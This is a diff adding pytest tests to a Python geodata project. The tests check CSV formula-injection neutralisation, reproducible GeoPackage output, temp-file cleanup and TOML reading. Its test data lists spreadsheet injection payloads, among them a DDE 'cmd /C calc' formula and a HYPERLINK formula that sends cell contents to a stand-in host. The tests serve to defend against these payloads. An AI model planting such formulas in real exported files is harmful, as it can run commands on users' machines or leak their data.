@@ -221,3 +221,122 @@ def test_toml_value_round_trips_through_tomllib():
     assert tomllib.loads(f"v = {toml_value(0.8333333333, float_digits=6)}")["v"] == 0.833333
     with pytest.raises(TypeError):
         toml_value(object())
+
+
+# --- safety of what circle15 writes ---------------------------------------------------------
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2",
+            "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1", "  =1+1",
+            "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_prefixes_are_neutralised_and_stay_readable(text):
+    from coverage.io import formula_safe
+
+    safe = formula_safe(text)
+    assert safe == "'" + text  # the original is the text after the apostrophe
+    assert formula_safe(safe) == safe  # idempotent: an apostrophe starts no formula
+
+
+@pytest.mark.parametrize("text", ["回龙观", "-3.5", "+86", "1e5", "-", "a=b", "", "'=x"])
+def test_plain_text_and_numbers_are_left_alone(text):
+    from coverage.io import formula_safe
+
+    expected = "'-" if text == "-" else text
+    assert formula_safe(text) == expected
+
+
+def test_every_csv_cell_and_header_is_formula_safe(tmp_path):
+    import csv
+
+    df = pd.DataFrame({"name": FORMULAS, "walk_min": [-1.5] * len(FORMULAS),
+                       "=evil": ["x"] * len(FORMULAS)})
+    f = write_csv(df, tmp_path / "sites.csv")
+    with open(f, encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["name", "walk_min", "'=evil"]
+    # a carriage return in a cell is written as a line break ("\n"), which CSV quotes
+    assert [r[0] for r in rows[1:]] == ["'" + t.replace("\r", "\n") for t in FORMULAS]
+    assert all(r[1] == "-1.5" for r in rows[1:])  # numbers stay numbers
+    for r in rows:  # no cell of the file starts a formula
+        assert all(c[:1] not in "=+@\t\r" or c == "" for c in r)
+    # an input copy circle15 reads back may opt out
+    raw = write_csv(df, tmp_path / "raw.csv", protect_formulas=False)
+    assert read_csv(raw)["name"].tolist()[0] == FORMULAS[0]
+
+
+def test_write_gpkg_same_layers_same_bytes(tmp_path, monkeypatch):
+    import sqlite3
+
+    poly = gpd.GeoDataFrame({"name": ["u1"]}, geometry=[box(0, 0, 100, 100)], crs="EPSG:32650")
+    a = write_gpkg(tmp_path / "a.gpkg", {"boundaries": poly, "b": poly}).read_bytes()
+    import time
+
+    time.sleep(1.1)  # GDAL's default last_change is the current time, to the millisecond
+    b = write_gpkg(tmp_path / "b.gpkg", {"boundaries": poly, "b": poly}).read_bytes()
+    assert a == b
+    con = sqlite3.connect(tmp_path / "a.gpkg")
+    try:
+        assert con.execute("pragma user_version").fetchone()[0] == 10200  # GPKG 1.2
+        dates = {r[0] for r in con.execute("select last_change from gpkg_contents")}
+    finally:
+        con.close()
+    assert dates == {"1970-01-01T00:00:00.000Z"}
+    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
+    write_gpkg(tmp_path / "c.gpkg", {"boundaries": poly})
+    con = sqlite3.connect(tmp_path / "c.gpkg")
+    try:
+        assert con.execute("select last_change from gpkg_contents").fetchone()[0] == \
+            "2023-11-14T22:13:20.000Z"
+    finally:
+        con.close()
+
+
+def test_remove_stale_temp_only_touches_temporary_names(tmp_path):
+    from coverage.io import remove_stale_temp, temp_path
+
+    keep = ["compounds.csv", ".hidden", "a.tmp", ".notes.txt"]
+    for name in keep:
+        (tmp_path / name).write_text("x", encoding="utf-8")
+    tmp = temp_path(tmp_path / "coverage.gpkg")
+    stale = [tmp, tmp.with_name(tmp.name + "-journal"), temp_path(tmp_path / "map.html")]
+    for p in stale:
+        p.write_text("half", encoding="utf-8")
+    folder = temp_path(tmp_path / "abc")  # a temporary folder (e.g. a batch cache entry)
+    folder.mkdir()
+    (folder / "summary.csv").write_text("x", encoding="utf-8")
+    gone = remove_stale_temp(tmp_path, stem="map")
+    assert gone == [stale[2]]
+    gone = remove_stale_temp(tmp_path)
+    assert sorted(gone) == sorted([*stale[:2], folder])
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(keep)
+
+
+def test_read_toml_accepts_bom_and_names_bad_files(tmp_path):
+    from coverage.errors import ConfigError
+    from coverage.io import read_toml
+
+    f = tmp_path / "area.toml"
+    f.write_bytes("\ufeff[area]\nname = \"回天\"\n".encode())
+    assert read_toml(f) == {"area": {"name": "回天"}}
+    with pytest.raises(ConfigError, match="folder, not a file"):
+        read_toml(tmp_path)
+    with pytest.raises(ConfigError, match="not found"):
+        read_toml(tmp_path / "nope.toml")
+    f.write_bytes("[area\n".encode())
+    with pytest.raises(ConfigError, match="not valid TOML"):
+        read_toml(f)
+    f.write_bytes("name = '回天'".encode("gbk"))
+    with pytest.raises(ConfigError, match="not UTF-8"):
+        read_toml(f)
+
+
+def test_sha256_file(tmp_path):
+    import hashlib
+
+    from coverage.io import sha256_file
+
+    f = tmp_path / "x.bin"
+    f.write_bytes(b"\x00" * 3_000_000)
+    assert sha256_file(f) == hashlib.sha256(b"\x00" * 3_000_000).hexdigest()
